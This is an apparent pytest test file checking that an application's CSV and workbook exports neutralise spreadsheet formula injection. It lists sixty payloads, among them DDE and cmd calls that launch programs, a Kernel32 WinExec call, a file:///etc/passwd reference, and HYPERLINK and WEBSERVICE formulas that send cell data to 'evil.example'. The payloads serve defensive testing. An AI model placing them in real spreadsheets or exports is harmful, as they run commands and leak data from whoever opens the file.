"""What leaves for a spreadsheet is read there as the text it was: sixty ways to be a formula."""

import csv
import io
import re
import zipfile
from datetime import date

import pytest

from storage.domain.kinds.outreach import Outreach
from storage.exchange.cells import unguarded
from storage.exchange.exporting import export_files
from storage.exchange.foreign.reading import read_table
from storage.exchange.listfile import list_file, list_workbook
from storage.exchange.workbook import workbook_of
from storage.usecases.records import Add, save
from storage.usecases.transaction import Transaction
from storage.workspace import Workspace

_BODIES = (
    "1+1",
    'HYPERLINK("http://evil.example/?x="&A1,"open")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML("http://evil.example/";"//a")',
    "SUM(1,2)*cmd|'/C notepad'!'A1'",
    "'file:///etc/passwd'#$Sheet1.A1",
    'RTD("x","y")',
    'CALL("Kernel32","WinExec","JFJ","calc",0)',
)
_STARTS = ("=", "+", "-", "@", "'=", " =")
PAYLOADS = [start + rest for start in _STARTS for rest in _BODIES]
_DANGEROUS = re.compile(r"[=+\-@\t\r]")


@pytest.fixture
def titles(workspace: Workspace) -> list[str]:
    def act(transaction: Transaction) -> None:
        added = [
            Outreach(
                id=transaction.new_id(),
                on=date(2026, 3, 2),
                title=title,
                outreach_kind="media",
            )
            for title in PAYLOADS
        ]
        save(transaction, [Add(record) for record in added], "add")

    workspace.write(act)
    return sorted(PAYLOADS)


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == 60


def test_no_cell_of_an_export_can_act_and_each_reads_back_as_it_was(
    workspace: Workspace, titles: list[str]
) -> None:
    content = workspace.read(export_files).files["outreach.csv"].decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert not [row["title"] for row in rows if _DANGEROUS.match(row["title"])]
    assert sorted(unguarded(row["title"]) for row in rows) == titles


def test_a_list_for_a_spreadsheet_is_as_safe_as_csv_and_as_workbook(
    workspace: Workspace, titles: list[str]
) -> None:
    keys = workspace.read(lambda c: c.exec_driver_sql("SELECT id FROM outreach").scalars().all())
    text = workspace.read(list_file, "outreach", ["title"], keys).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert not [cell for cell in cells if _DANGEROUS.match(cell)]
    assert sorted(map(unguarded, cells)) == titles
    book = workspace.read(list_workbook, "outreach", ["title"], keys)
    (sheet,) = read_table(book).sheets
    assert sorted(row[0] for row in sheet.rows[1:]) == sorted(t.strip() for t in titles)


def test_no_payload_is_a_formula_or_a_link_in_a_workbook() -> None:
    data = workbook_of("A [sheet]: odd?", [["Title"], *([payload] for payload in PAYLOADS)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet
    assert not [name for name in names if "externalLink" in name or "vba" in name]


def test_numbers_stay_numbers_and_long_texts_are_cut_with_a_mark() -> None:
    data = workbook_of("Figures", [["a", "b"], [7, "x" * 40_000]])
    (sheet,) = read_table(data).sheets
    assert sheet.rows[1][0] == "7"
    assert sheet.rows[1][1].endswith("\u2026")
    assert len(sheet.rows[1][1]) == 32_767
